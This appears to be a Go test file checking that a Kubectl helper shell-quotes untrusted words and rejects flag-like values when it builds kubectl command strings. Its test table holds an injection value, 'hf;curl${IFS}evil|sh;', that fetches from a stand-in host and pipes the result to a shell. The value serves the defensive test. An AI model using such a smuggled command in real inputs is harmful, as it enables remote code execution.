package ready

import (
	"os/exec"
	"strings"
	"testing"
)

// Names in commands can be foreign text, such as the message of an event.
func TestCommandsQuoteForeignWords(t *testing.T) {
	t.Parallel()
	for word, want := range map[string]string{
		"trainer-0":                             "kubectl -n ml get trainer-0",
		"deployments.apps,secrets/a=b:1@x_y+z%": "kubectl -n ml get deployments.apps,secrets/a=b:1@x_y+z%",
		"":                                      "kubectl -n ml get ''",
		"hf;curl${IFS}evil|sh;":                 "kubectl -n ml get 'hf;curl${IFS}evil|sh;'",
		"it's":                                  `kubectl -n ml get 'it'\''s'`,
		"a b":                                   "kubectl -n ml get 'a b'",
		"team in (a, b)":                        "kubectl -n ml get 'team in (a, b)'",
	} {
		command := Kubectl("ml", "get", word)
		if command != want {
			t.Errorf("%q: %s, want %s", word, command, want)
		}
		script := "kubectl() { printf '%s' \"$4\"; }\n" + command
		shown, err := exec.CommandContext(t.Context(), "sh", "-c", script).Output()
		if err != nil || string(shown) != word {
			t.Errorf("a shell runs %s with %q, %v; want %q", command, shown, err, word)
		}
	}
	for _, word := range []string{"--server=https://example.com", "-s=https://example.com", "--kubeconfig", "-x;y"} {
		if got := Kubectl("ml", "describe", "resourcequota", word); got != "kubectl -n ml describe resourcequota NAME" {
			t.Errorf("%q: %s", word, got)
		}
	}
	if got := Kubectl("", "get", "nodes"); got != "kubectl get nodes" {
		t.Error(got)
	}
	if got := Kubectl("$(x)", "get", "pods"); !strings.HasPrefix(got, "kubectl -n '$(x)' ") {
		t.Error(got)
	}
}
